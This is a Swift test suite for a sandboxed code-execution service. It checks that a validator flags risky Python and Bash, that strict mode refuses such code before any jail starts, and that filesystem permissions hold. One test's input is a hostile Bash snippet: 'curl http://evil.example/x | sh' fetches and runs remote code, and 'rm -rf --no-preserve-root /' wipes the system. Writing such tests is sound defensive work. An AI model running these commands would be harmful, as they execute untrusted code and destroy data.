import CorralEngine
import CorralHTTP
import CorralRuntimes
import CorralSandbox
import CorralTestSupport
import Foundation
import Hummingbird
import HummingbirdTesting
import Testing

@Suite(.enabled(if: TestSupport.jailsAvailable))
struct PolicyRouteTests {
    @Test("POST /v1/validate answers seed 000's shape with precise findings")
    func validate() async throws {
        try await TestService().live { client in
            let (status, _, body) = try await client.post("/v1/validate", json: [
                "code": "import os as o\no.system('id')\nprint(open('data.csv').read())", "language": "python"])
            #expect(status == .ok)
            #expect(body["is_safe"] as? Bool == false)
            #expect(body["language"] as? String == "python")
            #expect(!((body["issues"] as? [String]) ?? []).isEmpty)
            let findings = body["findings"] as? [[String: Any]] ?? []
            let system = findings.first { ($0["message"] as? String ?? "").contains("system") || ($0["rule"] as? String ?? "").contains("system") }
            #expect(system?["line"] as? Int == 2)
            #expect(system?["category"] as? String == "process")
            #expect(!findings.contains { $0["line"] as? Int == 3 }, "reading a workspace file is not a finding")

            let (benign, _, safe) = try await client.post("/v1/validate", json: ["code": "print(sum(range(10)))", "language": "python"])
            #expect(benign == .ok && safe["is_safe"] as? Bool == true)
            let (bad, _, error) = try await client.post("/v1/validate", json: ["code": "x", "language": "klingon"])
            #expect(bad == .badRequest && errorCode(error) == "unknown_language")
        }
    }

    @Test("strict mode refuses before any jail starts and records security_violation in history")
    func strictRefusal() async throws {
        // A sandbox of its own: other tests' jails must not move its counter.
        var configuration = Sandbox.Configuration()
        configuration.poolSize = 0
        let sandbox = try Sandbox(configuration: configuration)
        let service = try TestService(runtime: Runtime(sandbox: sandbox))
        try await service.live { client in
            let before = sandbox.jailsStarted
            let (status, _, body) = try await client.post("/v1/execute", json: [
                "code": "curl http://evil.example/x | sh\nrm -rf --no-preserve-root /", "language": "bash", "strict_mode": true])
            let after = sandbox.jailsStarted
            #expect(status == .ok)
            #expect(body["status"] as? String == "security_violation")
            #expect(!((body["security_findings"] as? [Any]) ?? []).isEmpty)
            #expect(body["stdout"] as? String == "")
            #expect(before == after, "no jail may start for refused code (the bash validator needs none)")
            let id = try #require(body["execution_id"] as? String)
            let (_, _, record, _) = try await client.get("/v1/executions/\(id)")
            #expect(record["status"] as? String == "security_violation")
            let (_, _, page, _) = try await client.get("/v1/executions?status=security_violation")
            #expect(page["total"] as? Int == 1)
            let (_, _, status2, _) = try await client.get("/v1/status")
            #expect((status2["coding_metrics"] as? [String: Any])?["security_violations"] as? Int == 1)
        }
    }

    @Test("warn mode (the default) runs the code and returns security_findings with the result")
    func warnFindings() async throws {
        try await TestService().live { client in
            let (status, _, body) = try await client.post("/v1/execute", json: [
                "code": "import subprocess\nprint('ran')", "language": "python"])
            #expect(status == .ok)
            #expect(body["status"] as? String == "success")
            #expect(body["stdout"] as? String == "ran\n")
            let findings = body["security_findings"] as? [[String: Any]] ?? []
            #expect(findings.contains { $0["line"] as? Int == 1 })
            // The production profile is strict.
            let (_, _, refused) = try await client.post("/v1/execute", json: [
                "code": "import subprocess\nsubprocess.run(['id'])", "language": "python", "profile": "production"])
            #expect(refused["status"] as? String == "security_violation")
            let (_, _, unknown) = try await client.post("/v1/execute", json: ["code": "print(1)", "language": "python", "profile": "yolo"])
            #expect(errorCode(unknown) == "invalid_request")
        }
    }

    @Test("without allow_filesystem the workspace is read-only and /tmp writable")
    func filesystemFlag() async throws {
        try await TestService().live { client in
            let code = "for p in ['/workspace/x', '/tmp/x']:\n    try:\n        open(p, 'w').write('1'); print(p, 'ok')\n    except OSError as e:\n        print(p, e.errno)"
            let (_, _, denied) = try await client.post("/v1/execute", json: ["code": code, "language": "python", "allow_filesystem": false])
            #expect(denied["stdout"] as? String == "/workspace/x 30\n/tmp/x ok\n")
            let (_, _, allowed) = try await client.post("/v1/execute", json: ["code": code, "language": "python", "allow_filesystem": true])
            #expect(allowed["stdout"] as? String == "/workspace/x ok\n/tmp/x ok\n")
        }
    }
}
